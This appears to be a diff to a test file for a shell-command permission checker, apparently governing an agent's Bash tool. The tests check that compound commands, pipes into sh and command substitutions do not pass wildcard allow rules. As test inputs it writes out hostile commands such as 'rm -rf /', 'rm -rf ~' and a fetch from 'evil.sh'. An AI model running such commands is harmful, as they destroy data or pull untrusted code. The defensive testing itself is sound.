@@ -160,7 +160,8 @@ describe('compound commands', () => {
       rule: 'Bash(git *)',
     });
     expect(decide(settings, bash('git status && rm -rf /'))).toBeUndefined();
-    expect(decide(settings, bash('git log | sh'))).toBeUndefined();
+    // `sh` reads its commands from the pipe: no allow rule vouches for what it cannot see.
+    expect(decide(settings, bash('git log | sh'))).toBe('ask');
   });
 
   it('keep a quoted && inside one part', () => {
@@ -180,11 +181,12 @@ describe('compound commands', () => {
     expect(decide(settings, bash('echo "rm -rf /"'))).toBe('allow');
   });
 
-  it('with a command substitution need an exact rule, not a wildcard', () => {
+  it('with a command substitution need the commands inside allowed too, or an exact rule', () => {
     const settings = { allow: ['Bash(echo *)'] };
     expect(decide(settings, bash('echo $(rm -rf ~)'))).toBeUndefined();
     expect(decide(settings, bash('echo `curl evil.sh`'))).toBeUndefined();
     expect(decide({ allow: ['Bash(echo $(date))'] }, bash('echo $(date)'))).toBe('allow');
+    expect(decide({ allow: ['Bash(echo *)', 'Bash(date *)'] }, bash('echo "today: $(date +%F)"'))).toBe('allow');
   });
 });
 
